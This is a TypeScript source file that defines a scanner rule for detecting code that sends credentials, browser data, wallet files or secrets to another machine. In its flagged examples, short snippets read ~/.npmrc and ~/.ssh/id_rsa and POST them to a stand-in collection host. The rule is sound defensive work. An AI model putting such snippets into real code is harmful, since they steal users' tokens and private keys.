import { defineRule, oddTargetOf, outgoing, sinkSays, step, stepsOf } from '../src/define.js';
import type { LabelKind } from '../src/types.js';

/** Which message tells of which origin; the first that fits is told. */
const MESSAGES: readonly (readonly [LabelKind, string])[] = [
  ['wallet', 'wallet'],
  ['browser', 'browser'],
  ['credentials', 'credentials'],
  ['clipboard', 'clipboard'],
  ['secret', 'variable'],
];

export default defineRule({
  meta: {
    summary: 'Sends credentials, browser data or wallet files to another machine',
    why: 'Credential files, browser profiles and wallets are read by the program they belong to. A cloud SDK or a registry client does send its own token, but as a header to its own service, so a single token variable weighs little.',
    behaviour: 'theft',
    messages: {
      wallet: 'Sends wallet data ({what}) through {sink}',
      browser: 'Sends {what} through {sink}',
      credentials: 'Sends {what} through {sink}',
      clipboard: 'Sends what is on the clipboard through {sink}',
      file: 'Sends the content of a file to {address} through {sink}',
      authorises: 'Says who it is with {what} through {sink}',
      variable: 'Sends the secret {what} through {sink}',
    },
    bits: { wallet: 14, browser: 14, credentials: 12, clipboard: 7, variable: 2, file: 7, authorises: 1.5 },
  },
  examples: {
    flags: [
      {
        title: 'the npm token file is uploaded',
        code: `const fs = require('fs'), os = require('os'), path = require('path');\nconst rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nfetch('https://collect.invalid', { method: 'POST', body: rc });`,
      },
      {
        title: 'SSH keys leave from a callback',
        code: `const fs = require('fs');\nfs.readFile(process.env.HOME + '/.ssh/id_rsa', (error, key) => {\n  require('https').request('https://collect.invalid', { method: 'POST' }).end(key);\n});`,
      },
    ],
    passes: [
      {
        title: 'a request is signed with the key of a credential file',
        code: `const fs = require('fs'), os = require('os'), path = require('path'), aws4 = require('aws4');\nconst text = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8');\nconst signed = aws4.sign({ host: 's3.invalid', path: '/' }, { secretAccessKey: text.split('=')[1] });\nrequire('https').request({ host: signed.host, path: signed.path, headers: signed.headers });`,
      },
      {
        title: 'a configuration file is read and kept',
        code: `const fs = require('fs');\nmodule.exports = fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8');`,
      },
      {
        title: 'an ordinary file is uploaded',
        code: `const fs = require('fs');\nfetch('https://upload.invalid', { method: 'POST', body: fs.readFileSync('./build.zip') });`,
      },
    ],
  },
  file(context) {
    for (const { call, labels, authority } of outgoing(context)) {
      for (const [kind, messageId] of MESSAGES) {
        const label = labels.find(one => one.kind === kind);
        if (!label) continue;
        context.report({
          messageId,
          data: { what: label.detail, sink: call.name },
          chain: [...stepsOf(label), step('sink', sinkSays(call), context.file, call.node)],
        });
        break;
      }
      const own = authority.find(({ kind }) => kind === 'credentials');
      if (own)
        context.report({
          messageId: 'authorises',
          data: { what: own.detail, sink: call.name },
          chain: [...stepsOf(own), step('sink', sinkSays(call), context.file, call.node)],
        });
      const file = labels.find(({ kind }) => kind === 'file');
      const address = file && oddTargetOf(context, call);
      if (file && address)
        context.report({
          messageId: 'file',
          data: { address, sink: call.name },
          chain: [...stepsOf(file), step('sink', sinkSays(call), context.file, call.node)],
        });
    }
  },
});
